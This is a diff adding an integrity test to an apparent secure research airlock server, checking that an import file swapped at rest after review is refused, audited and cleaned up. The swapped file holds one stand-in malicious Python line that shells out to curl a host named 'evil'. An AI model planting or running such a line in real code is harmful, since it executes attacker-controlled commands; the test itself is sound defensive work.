@@ -5,7 +5,10 @@ using System.Text;
 using System.Text.Json;
 using Microsoft.Extensions.DependencyInjection;
 using OpenSpe.Server.Audit;
+using OpenSpe.Server.Airlock;
 using OpenSpe.Server.Tests.Api;
+using OpenSpe.Server.Tests.Transfers;
+using OpenSpe.Server.Vault;
 
 namespace OpenSpe.Server.Tests.Airlock;
 
@@ -144,6 +147,32 @@ public sealed class ImportWorkflowTests : IAsyncLifetime
         using var third = await _w.Researcher.PostAsync($"{Imports}/{request.Id}/placement", null);
         var problem = await ProblemAssert.IsProblemAsync(third, HttpStatusCode.Conflict);
         Assert.Equal(ErrorCodes.AirlockNothingToPlace, problem.GetProperty("code").GetString());
+    }
+
+    [Fact]
+    [Trait("Requirement", "SPER-3")]
+    [Trait("Requirement", "SDR-3")]
+    public async Task A_frozen_copy_changed_at_rest_is_not_placed_and_the_request_says_so()
+    {
+        var request = await ImportOkAsync(_w.Researcher, "helper.py", Encoding.UTF8.GetBytes(Script));
+        // Someone with access to the object store swaps the file for another script, validly encrypted to the project key.
+        var key = await new TusClient(_w.Researcher, _w.ProjectId).ProjectKeyAsync();
+        await _w.F.Server.Services.GetRequiredService<IObjectStore>().PutAsync(FrozenFiles.KeyFor(_w.ProjectId, request.Id, 0),
+            new MemoryStream(TusClient.Encrypt(Encoding.UTF8.GetBytes("import os; os.system('curl evil')\n"), key)), TestContext.Current.CancellationToken);
+
+        var review = await ReviewAsync("checker", request.Id);
+        var view = await review.Content.ReadFromJsonAsync<AirlockRequestView>(JsonSerializerOptions.Web);
+        var inside = await _w.RunAsync($"ls -A /project/imports/{request.Id} 2>/dev/null | wc -l");
+
+        Assert.Equal(HttpStatusCode.OK, review.StatusCode);
+        Assert.Equal((AirlockStates.Approved, AirlockPlacements.Failed), (view!.Files[0].State, view.Files[0].Placement));
+        Assert.Contains("no longer has the SHA-256 it was reviewed with", view.Files[0].PlacementProblem, StringComparison.Ordinal);
+        Assert.Equal("0\n", inside);
+        var records = await _w.F.Server.Services.GetRequiredService<AuditService>().QueryAsync(new AuditQuery(), TestContext.Current.CancellationToken);
+        Assert.Contains(records, r => r.Action == "import.integrity-failed" && r.ResourceId == request.Id);
+        Assert.DoesNotContain(records, r => r.Action == "import.placed");
+        // Spools of the decrypted copy are gone.
+        Assert.Empty(Directory.EnumerateFiles(Path.Combine(_w.F.Server.DataDirectory, "data", "airlock-work"), "place-*"));
     }
 
     [Fact]
